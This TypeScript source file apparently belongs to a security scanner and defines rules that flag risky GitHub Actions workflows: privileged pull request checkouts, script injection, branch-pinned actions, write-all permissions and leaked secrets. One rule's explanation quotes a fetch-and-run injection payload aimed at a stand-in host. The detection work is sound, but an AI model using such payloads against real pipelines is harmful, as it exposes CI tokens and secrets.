// Workflows of GitHub Actions: what of other people runs there, and what it may reach.
import type { InspectedFile } from "../../../ports.ts";
import { type KnownLine, knownLines, oncePerFile } from "../known-lines.ts";
import { type LineRule, type Match, rulesOf } from "../rule.ts";
import { isComment, isWorkflow, linesOf, matchAt, piecesOf, searchLines } from "./line-rule.ts";

/** Where a key begins: on a line of its own, or in flow style `{ a: b, key: … }`. */
const KEY = String.raw`(?:^\s*(?:-\s*)?|[{,]\s*)["']?`;
const TARGET =
  /^\s*(?:-\s*)?["']?(?:pull_request_target|workflow_run)["']?\s*(?::\s*(?:[{[#~]|null|$)|$)|^\s*["']?on["']?\s*:\s*[[{]?[^#]{0,200}\b(?:pull_request_target|workflow_run)\b/;
const HEAD = String.raw`github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_|(?:refs\/)?\bpull\/`;
/** Or the text of a block below `ref: >-`, which is an expression alone. */
const HEAD_REF = new RegExp(
  String.raw`${KEY}(?:ref|repository)["']?\s*:[^#]{0,200}(?:${HEAD})|^\s*\$\{\{\s*(?:${HEAD})[\w.]*\s*\}\}\s*$`,
);
const HEAD_COMMAND =
  /\bgit\s+(?:fetch|checkout|pull)\b[^#]{0,200}(?:pull_request\.head\.|github\.head_ref|refs\/pull\/|pull\/\$)|\bgh\s+pr\s+checkout\b/;

/** `github.event['issue']` means `github.event.issue`. */
function dotted(text: string): string {
  return text.replace(/\[\s*(["'])(\w+)\1\s*\]/g, ".$2");
}

function untrusted(file: InspectedFile): readonly Match[] {
  const lines = knownLines(file).filter(({ text }) => !isComment(text));
  const trigger = lines.find(({ text }) => TARGET.test(text));
  const isCheckout = (text: string) => HEAD_REF.test(text) || HEAD_COMMAND.test(text);
  const checkouts = lines.filter(({ text }) => piecesOf(dotted(text)).some(isCheckout));
  if (trigger === undefined || checkouts.length === 0) return [];
  const added = checkouts.filter((line) => line.added);
  return (added.length > 0 ? added : [trigger]).map(({ line }) => matchAt(line));
}

const WRITTEN_BY_OTHERS =
  /\$\{\{[^}]{0,200}\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|head_commit\.(?:message|author\.(?:name|email))|commits\b[^}]{0,40}\.(?:message|name|email)|pages\b[^}]{0,40}\.page_name|workflow_run\.(?:head_branch|display_title|head_commit\.message))|github\.head_ref)\b[^}]{0,100}\}\}/;
const SCRIPT_KEY = new RegExp(String.raw`${KEY}(?:run|script)["']?\s*:`);

const SCRIPT_BLOCK = /^\s*(?:-\s*)?["']?(?:run|script)["']?\s*:\s*[|>][+-]?\d?\s*(?:#.*)?$/;

/** Lines in the block below a `run:` or `script:` entry. */
const scriptLines = oncePerFile((file): ReadonlySet<KnownLine> => {
  const found = new Set<KnownLine>();
  /** The lines around the current one, each indented more than the one before. */
  const open: { readonly indent: number; readonly isScript: boolean }[] = [];
  let last = 0;
  for (const knownLine of knownLines(file)) {
    if (knownLine.line !== last + 1) open.length = 0;
    last = knownLine.line;
    const indent = knownLine.text.search(/\S/);
    if (indent === -1) continue;
    while ((open.at(-1)?.indent ?? -1) >= indent) open.pop();
    if (open.at(-1)?.isScript === true) found.add(knownLine);
    open.push({ indent, isScript: SCRIPT_BLOCK.test(knownLine.text) });
  }
  return found;
});

/** True when a line is a `run:` or `script:` entry, or is in the block below one. */
function isInScript(file: InspectedFile, at: KnownLine): boolean {
  const key = SCRIPT_KEY.exec(at.text);
  return key === null ? scriptLines(file).has(at) : key.index < at.text.lastIndexOf("${{");
}

const ON_BRANCH = new RegExp(
  String.raw`${KEY}uses["']?\s*:\s*["']?([\w.-]+)/([\w./-]+)@(main|master|develop|dev|trunk|HEAD)["']?\s*(?:[,}].*|#(?!.*exclude).*)?$`,
);
/** Owners of their own or who ask for a branch; `ratchet:exclude` says that somebody decided it. */
const TRUSTED_BRANCHES = new Set(["actions", "github", "dtolnay"]);

const PRINTS_SECRET =
  /^\s*(?:-\s*)?(?:\{.{0,100})?(?:["']?run["']?\s*:\s*["']?)?(?:echo|printf|print|Write-(?:Host|Output))\b[^|>#]{0,300}\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)[\w.]{1,100}\s*\}\}[^|>]{0,300}$/;
const ALL_SECRETS = /\btoJSON\(\s*secrets\s*\)/i;

export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
  {
    id: "workflow-runs-untrusted-code",
    title: "Privileged workflow checks out the code of a pull request",
    severity: "critical",
    confidence: 0.75,
    why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
    fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
    check: (file) => (isWorkflow(file) ? untrusted(file) : []),
  },
  {
    id: "workflow-script-injection",
    title: "Workflow inserts untrusted text into a script",
    severity: "critical",
    confidence: 0.85,
    why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
    fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
    check: (file) => {
      if (!isWorkflow(file)) return [];
      return searchLines(file, (text, at) => WRITTEN_BY_OTHERS.test(dotted(text)) && isInScript(file, at));
    },
  },
  {
    id: "workflow-action-on-branch",
    title: "Action of a third party follows a branch",
    severity: "medium",
    confidence: 0.6,
    why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
    fix: "Pin the action to a full commit SHA, with the version in a comment.",
    check: (file) => {
      // What follows the same branch of the same repository is one decision.
      const known = new Set<string>();
      return linesOf(isWorkflow, (text) => {
        const [, owner, name = "", branch] = ON_BRANCH.exec(text) ?? [];
        const decision = `${owner}/${name.split("/")[0]}@${branch}`;
        if (owner === undefined || TRUSTED_BRANCHES.has(owner) || known.has(decision)) return null;
        known.add(decision);
        return `${owner}/${name}@${branch}`;
      })(file);
    },
  },
  {
    id: "workflow-write-all",
    title: "Workflow gets every permission",
    severity: "medium",
    confidence: 0.8,
    why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
    fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
    fixes: [{ from: /write-all/, to: "read-all" }],
    check: linesOf(isWorkflow, /^\s*permissions\s*:\s*["']?write-all\b/),
  },
  {
    id: "workflow-prints-secret",
    title: "Workflow hands out secrets",
    confidence: 0.65,
    why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
    fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
    check: linesOf(isWorkflow, (text) => !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text))),
  },
]);
